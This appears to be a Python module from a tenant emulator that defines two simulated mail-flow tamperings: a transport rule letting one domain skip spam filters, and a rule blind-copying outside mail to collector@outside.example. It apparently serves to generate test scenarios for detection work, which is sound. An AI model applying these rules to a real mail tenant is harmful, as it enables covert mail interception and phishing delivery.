"""Tampering with how mail flows, by the cmdlet that a person would use."""

from __future__ import annotations

from typing import TYPE_CHECKING

from holdfast.emulator.tamperings.cast import administrator
from holdfast.emulator.tamperings.cmdlets import run
from holdfast.emulator.tamperings.tampering import Tampering

if TYPE_CHECKING:
    from holdfast.emulator.tenant import Tenant

_DOMAIN = "newsletter.example"
_COLLECTOR = "collector@outside.example"


def wave_domain_through(tenant: Tenant) -> str:
    """Make a rule with which mail of a whole domain skips the filters.

    Args:
        tenant: where.

    Raises:
        TamperingError: there is one of that name already.
    """
    actor = administrator(tenant)
    given = {"Name": "Newsletter", "SenderDomainIs": [_DOMAIN], "SetSCL": -1}
    run(tenant, actor, "New-TransportRule", given)
    return f"{actor.user_principal_name} had mail of {_DOMAIN} skip the filters."


def copy_mail_outside(tenant: Tenant) -> str:
    """Make a rule that copies mail from outside to an address outside.

    Args:
        tenant: where.

    Raises:
        TamperingError: there is one of that name already.
    """
    actor = administrator(tenant)
    given = {"Name": "Archive", "FromScope": "NotInOrganization", "BlindCopyTo": [_COLLECTOR]}
    run(tenant, actor, "New-TransportRule", given)
    return f"{actor.user_principal_name} had mail copied to {_COLLECTOR}."


TAMPERINGS = (
    Tampering(
        "wave-domain-through",
        "The administrator has mail of a whole domain skip the filters.",
        wave_domain_through,
    ),
    Tampering(
        "copy-mail-outside",
        "The administrator makes a rule that copies mail outside.",
        copy_mail_outside,
    ),
)
